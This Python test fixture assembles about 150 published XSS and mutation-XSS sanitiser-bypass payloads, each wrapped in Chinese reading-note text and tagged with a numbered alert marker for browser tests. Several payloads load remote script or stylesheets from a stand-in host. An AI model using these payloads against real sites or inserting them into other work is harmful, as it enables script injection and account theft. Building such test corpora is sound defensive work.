# ruff: noqa: E501 - payloads are kept on one line each, as published
"""XSS payloads for the reading-note sanitiser (portal/sanitize.py), each wrapped in Chinese text.

Sources (the category is recorded on every entry):

- ``owasp``: OWASP XSS Filter Evasion Cheat Sheet
  (https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html);
- ``html5sec``: HTML5 Security Cheatsheet (https://html5sec.org/);
- ``mxss``: published sanitiser mutation-XSS / parser-differential bypasses
  (DOMPurify advisories and write-ups by Heyes, Bentkowski (Securitum), Masato Kinugawa,
  Cure53 and others: namespace confusion, <noscript>/<template>/comment differentials);
- ``portswigger``: PortSwigger XSS cheat sheet (event handlers that fire without interaction).

``MARK`` inside a payload is replaced by the entry's numeric marker (9000 + index),
so a browser test that catches ``alert(9042)`` can name the payload that ran.
Payloads that spell ``alert`` with entities carry a fixed marker instead.
"""

PREFIX = "读书心得："
#: Marks payloads that leave an element open whose content is dropped (<svg>, <math>,
#: <script>, <object>, an unterminated tag): a browser would swallow the rest of the
#: note as well, so the text after the payload is not expected to survive.
SWALLOWS = "swallows-rest"
SUFFIX = "。书香润机关，阅读促提升，多读书、读好书、善读书。"

_RAW = [
    # --- OWASP XSS Filter Evasion Cheat Sheet --------------------------------------
    ("owasp", "<script>alert(MARK)</script>"),
    ("owasp", "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>"),
    ("owasp", "<ScRiPt>alert(MARK)</sCrIpT>"),
    ("owasp", '<SCRIPT/XSS SRC="https://xss.example/xss.js"></SCRIPT>'),
    ("owasp", "<<SCRIPT>alert(MARK);//\\<</SCRIPT>"),
    ("owasp", "<SCRIPT SRC=//xss.example/.j>", SWALLOWS),
    ("owasp", '<IMG SRC="javascript:alert(MARK);">'),
    ("owasp", "<IMG SRC=javascript:alert(MARK)>"),
    ("owasp", "<IMG SRC=`javascript:alert(MARK)`>"),
    ("owasp", '<IMG """><SCRIPT>alert(MARK)</SCRIPT>"\\>'),
    ("owasp", "<img src=x onerror=alert(MARK)>"),
    ("owasp", '<IMG SRC=/ onerror="alert(MARK)"></img>'),
    ("owasp", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#57;&#57;&#57;&#49;&#41;>"),
    (
        "owasp",
        "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;"
        "&#97;&#108;&#101;&#114;&#116;&#40;&#57;&#57;&#57;&#50;&#41;>",
    ),
    (
        "owasp",
        "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105"
        "&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040"
        "&#0000057&#0000057&#0000057&#0000051&#0000041>",
    ),
    (
        "owasp",
        "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29>",
    ),
    ("owasp", '<a href="&#106;avascript:alert(MARK)">点击阅读</a>'),
    ("owasp", '<a href="jav&#x09;ascript:alert(MARK)">点击阅读</a>'),
    ("owasp", '<a href="jav&#x0A;ascript:alert(MARK)">点击阅读</a>'),
    ("owasp", '<a href="jav&#x0D;ascript:alert(MARK)">点击阅读</a>'),
    ("owasp", '<a href="jav\tascript:alert(MARK)">点击阅读</a>'),
    ("owasp", '<a href="java\x00script:alert(MARK)">点击阅读</a>'),
    ("owasp", '<a href=" &#14;  javascript:alert(MARK)">点击阅读</a>'),
    ("owasp", '<a href="JaVaScRiPt:alert(MARK)">点击阅读</a>'),
    ("owasp", '<a href="javascript&colon;alert(MARK)">点击阅读</a>'),
    ("owasp", '<a href="vbscript:msgbox(MARK)">点击阅读</a>'),
    ("owasp", '<a href="livescript:[code]">点击阅读</a>'),
    ("owasp", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">点击阅读</a>'),
    ("owasp", '<a href="data:text/html,<script>alert(MARK)</script>">点击阅读</a>'),
    ("owasp", '<a href="//xss.example/">相对协议链接</a>'),
    ("owasp", '<a href="/admin/">站内相对链接</a>'),
    ("owasp", "<BODY ONLOAD=alert(MARK)>"),
    ("owasp", "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(MARK)>"),
    ("owasp", "<svg onload=alert(MARK)>", SWALLOWS),
    ("owasp", "<svg/onload=alert(MARK)>", SWALLOWS),
    ("owasp", '<IFRAME SRC="javascript:alert(MARK);"></IFRAME>'),
    ("owasp", '<IFRAME SRC=# onmouseover="alert(MARK)"></IFRAME>'),
    ("owasp", '<FRAMESET><FRAME SRC="javascript:alert(MARK);"></FRAMESET>'),
    ("owasp", '<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.example/scriptlet.html"></OBJECT>'),
    ("owasp", '<object data="javascript:alert(MARK)"></object>'),
    (
        "owasp",
        '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiPjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
    ),
    ("owasp", '<LINK REL="stylesheet" HREF="javascript:alert(MARK);">'),
    ("owasp", '<link rel="import" href="https://xss.example/xss.html">'),
    ("owasp", '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(MARK);">'),
    (
        "owasp",
        '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
    ),
    ("owasp", '<BASE HREF="javascript:alert(MARK);//">'),
    ("owasp", '<form action="javascript:alert(MARK)"><input type="submit" value="提交"></form>'),
    ("owasp", "<input onfocus=alert(MARK) autofocus>"),
    ("owasp", "<details open ontoggle=alert(MARK)>"),
    ("owasp", '<IMG STYLE="xss:expr/*XSS*/ession(alert(MARK))">'),
    ("owasp", '<DIV STYLE="background-image: url(javascript:alert(MARK))">'),
    ("owasp", '<p style="width: expression(alert(MARK));">样式表达式</p>'),
    ("owasp", "<STYLE>@import'https://xss.example/xss.css';</STYLE>"),
    ("owasp", '<STYLE>BODY{-moz-binding:url("https://xss.example/xssmoz.xml#xss")}</STYLE>'),
    ("owasp", '<STYLE TYPE="text/javascript">alert(MARK);</STYLE>'),
    ("owasp", '<LINK REL="stylesheet" HREF="https://xss.example/xss.css">'),
    ("owasp", '<TABLE BACKGROUND="javascript:alert(MARK)"><TD>表格</TD></TABLE>'),
    ("owasp", "<svg><animate onbegin=alert(MARK) attributeName=x dur=1s>", SWALLOWS),
    ("owasp", '<svg><set attributeName="onmouseover" to="alert(MARK)"/></svg>'),
    (
        "owasp",
        '<svg><a><animate attributeName="href" values="javascript:alert(MARK)"/><text x="20" y="20">点</text></a></svg>',
    ),
    (
        "owasp",
        '<svg><use xlink:href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48L3N2Zz4=#x"/></svg>',
    ),
    ("owasp", '<math><maction actiontype="statusline" xlink:href="javascript:alert(MARK)">点击</maction></math>'),
    ("owasp", '<noscript><p title="</noscript><img src=x onerror=alert(MARK)>">'),
    ("owasp", '<a href="https://example.org/" onmouseover="alert(MARK)">悬停</a>'),
    ("owasp", '<a href="https://example.org/" style="position:fixed;top:0;left:0;width:100%;height:100%">覆盖</a>'),
    ("owasp", "<b onmouseover=alert(MARK)>粗体</b>"),
    ("owasp", '<XSS STYLE="behavior: url(xss.htc);">'),
    ("owasp", '";alert(MARK);//'),
    ("owasp", "'';!--\"<XSS>=&{()}"),
    # --- HTML5 Security Cheatsheet (html5sec.org) ----------------------------------
    ("html5sec", '<video><source onerror="alert(MARK)"></video>'),
    ("html5sec", "<audio src=x onerror=alert(MARK)>"),
    ("html5sec", "<video poster=javascript:alert(MARK)//></video>"),
    ("html5sec", "<x onclick=alert(MARK)>点我</x>"),
    ("html5sec", '<form id="test"></form><button form="test" formaction="javascript:alert(MARK)">提交</button>'),
    ("html5sec", "<form><button formaction=javascript:alert(MARK)>提交</button></form>"),
    ("html5sec", '<iframe srcdoc="&lt;img src&equals;x:x onerror&equals;alert&lpar;MARK&rpar;&gt;"></iframe>'),
    ("html5sec", "<isindex type=image src=1 onerror=alert(MARK)>"),
    ("html5sec", '<isindex action="javascript:alert(MARK)" type=image>'),
    ("html5sec", "<frameset onload=alert(MARK)>"),
    ("html5sec", "<marquee onstart=alert(MARK)>滚动</marquee>"),
    ("html5sec", "<input onblur=alert(MARK) autofocus><input autofocus>"),
    ("html5sec", "<select autofocus onfocus=alert(MARK)>"),
    ("html5sec", "<textarea autofocus onfocus=alert(MARK)>"),
    ("html5sec", "<keygen autofocus onfocus=alert(MARK)>"),
    ("html5sec", "<body oninput=alert(MARK)><input autofocus>"),
    ("html5sec", '<math href="javascript:javascript:alert(MARK)">数学</math>'),
    ("html5sec", '<svg><script xlink:href="data:,alert(MARK)"></script></svg>'),
    (
        "html5sec",
        '<svg xmlns="http://www.w3.org/2000/svg"><a xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="javascript:alert(MARK)"><rect width="100" height="100"/></a></svg>',
    ),
    ("html5sec", '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>'),
    ("html5sec", '<embed src="javascript:alert(MARK)">'),
    ("html5sec", '<div draggable="true" ondragstart="alert(MARK)">拖动</div>'),
    ("html5sec", '<a href="javascript:alert(MARK)"><event-source src="event.php" onload="alert(MARK)"></a>'),
    ("html5sec", '<img src="x` `<script>alert(MARK)</script>"` `>'),
    (
        "html5sec",
        '<div id="x">x</div><xml:namespace prefix="t"><import namespace="t" implementation="#default#time2"><t:set attributeName="innerHTML" targetElement="x" to="&lt;img&#11;src=x:x&#11;onerror&#11;=alert(MARK)&gt;">',
    ),
    ("html5sec", "<!--[if]><script>alert(MARK)</script -->"),
    ("html5sec", '<?xml-stylesheet type="text/css" href="javascript:alert(MARK)"?>'),
    ("html5sec", "<![CDATA[<]]>script>alert(MARK)<![CDATA[<]]>/script>"),
    # --- sanitiser mXSS and parser-differential bypasses ---------------------------
    ("mxss", "<svg><p><style><img src=x onerror=alert(MARK)></style></p></svg>"),
    (
        "mxss",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(MARK)></style></mglyph></table></mtext></math>",
    ),
    (
        "mxss",
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(MARK)&gt;">',
        SWALLOWS,
    ),
    ("mxss", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(MARK)>", SWALLOWS),
    ("mxss", "<math><mi><table><mi><svg><mtext><style><img src=x onerror=alert(MARK)>", SWALLOWS),
    ("mxss", '<svg></p><style><a id="</style><img src=1 onerror=alert(MARK)>">'),
    ("mxss", "<noscript><img src=x onerror=alert(MARK)></noscript>"),
    ("mxss", "<template><img src=x onerror=alert(MARK)></template>"),
    ("mxss", "<template><script>alert(MARK)</script></template>"),
    ("mxss", "<!--><img src=x onerror=alert(MARK)>-->"),
    ("mxss", "<!---><img src=x onerror=alert(MARK)>-->"),
    ("mxss", "<!-- --!><img src=x onerror=alert(MARK)>-->"),
    ("mxss", '<p title="<!--"><img src=x onerror=alert(MARK)>--></p>'),
    ("mxss", "<img src=`x`onerror=alert(MARK)>"),
    ("mxss", "<a href=`javascript:alert(MARK)`>反引号</a>"),
    ("mxss", "<img src=x onerror=alert(MARK)//", SWALLOWS),
    ("mxss", "<svg onload=alert(MARK)//", SWALLOWS),
    ("mxss", '<a href="javascript:alert(MARK)"<b>未闭合</b>'),
    ("mxss", '<p id="</p><img src=x onerror=alert(MARK)>">属性中的标签</p>'),
    ("mxss", '<b title="&lt;img src=x onerror=alert(MARK)&gt;">转义属性</b>'),
    ("mxss", "&lt;img src=x onerror=alert(MARK)&gt;"),
    ("mxss", "&amp;lt;script&amp;gt;alert(MARK)&amp;lt;/script&amp;gt;"),
    ("mxss", '<xmp><p title="</xmp><img src=x onerror=alert(MARK)>">'),
    ("mxss", '<iframe><p title="</iframe><img src=x onerror=alert(MARK)>">'),
    ("mxss", '<noembed><p title="</noembed><img src=x onerror=alert(MARK)>">'),
    ("mxss", '<noframes><p title="</noframes><img src=x onerror=alert(MARK)>">'),
    ("mxss", '<textarea><p title="</textarea><img src=x onerror=alert(MARK)>">'),
    ("mxss", '<title><p title="</title><img src=x onerror=alert(MARK)>">'),
    ("mxss", "<plaintext><img src=x onerror=alert(MARK)>"),
    ("mxss", '<a href="https://example.org/">链接<svg><a xlink:href="javascript:alert(MARK)">内层</a></svg></a>'),
    ("mxss", "<svg><style><img src=x onerror=alert(MARK)></style></svg>"),
    ("mxss", "<math><style><img src=x onerror=alert(MARK)></style></math>"),
    ("mxss", "<svg><foreignObject><img src=x onerror=alert(MARK)></foreignObject></svg>"),
    ("mxss", "<table><caption><svg><desc><img src=x onerror=alert(MARK)></desc></svg></caption></table>"),
    ("mxss", "<a id=x tabindex=1 onfocusin=alert(MARK)></a>"),
    ("mxss", '<blockquote cite="javascript:alert(MARK)">引文</blockquote>'),
    ("mxss", '<a href="https://example.org/" target="_blank" rel="opener">开窗</a>'),
    ("mxss", '<a href="mailto:reader@example.org" id="location" name="cookie">DOM 覆盖</a>'),
    ("mxss", "<img name=getElementById><form name=body></form>"),
    ("mxss", '<a href="javas<!-- -->cript:alert(MARK)">注释拆分</a>'),
    ("mxss", '<a href="&#x6a;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3a;alert(MARK)">十六进制</a>'),
    ("mxss", '<a href="&Tab;javascript:alert(MARK)">命名实体</a>'),
    ("mxss", '<a href="java&NewLine;script:alert(MARK)">命名实体换行</a>'),
    ("mxss", '<a href="\u2028javascript:alert(MARK)">行分隔符</a>'),
    ("mxss", '<a href="https:javascript:alert(MARK)">协议混淆</a>'),
    # --- PortSwigger XSS cheat sheet (no interaction needed) -----------------------
    ("portswigger", '<style>@keyframes x{}</style><xss style="animation-name:x" onanimationstart="alert(MARK)"></xss>'),
    ("portswigger", '<xss ontransitionend=alert(MARK) style="transition:outline 1s" tabindex=1 autofocus>'),
    ("portswigger", "<image src=x onerror=alert(MARK)>"),
    ("portswigger", "<body onpageshow=alert(MARK)>"),
    ("portswigger", "<svg><animatetransform onbegin=alert(MARK) attributeName=transform>", SWALLOWS),
    ("portswigger", '<object data="javascript:alert(MARK)">', SWALLOWS),
    ("portswigger", '<iframe src="javascript:alert(MARK)"></iframe>'),
    ("portswigger", '<meta http-equiv="refresh" content="0; url=javascript:alert(MARK)">'),
    ("portswigger", "<style onload=alert(MARK)></style>"),
    ("portswigger", '<a href="javascript://%0aalert(MARK)">注释换行</a>'),
]

MARKER_BASE = 9000


def _build():
    corpus = []
    for index, (source, raw, *flags) in enumerate(_RAW):
        marker = MARKER_BASE + index
        payload = raw.replace("MARK", str(marker))
        corpus.append(
            {
                "id": f"{source}-{index:03d}",
                "source": source,
                "marker": marker,
                "payload": payload,
                "swallows_rest": SWALLOWS in flags,
                "html": f"<p>{PREFIX}{payload}{SUFFIX}</p>" if index % 3 == 0 else f"{PREFIX}{payload}{SUFFIX}",
            }
        )
    return corpus


#: Every entry: id, source, marker, payload (raw), swallows_rest, html (payload with the Chinese text around it).
CORPUS = _build()
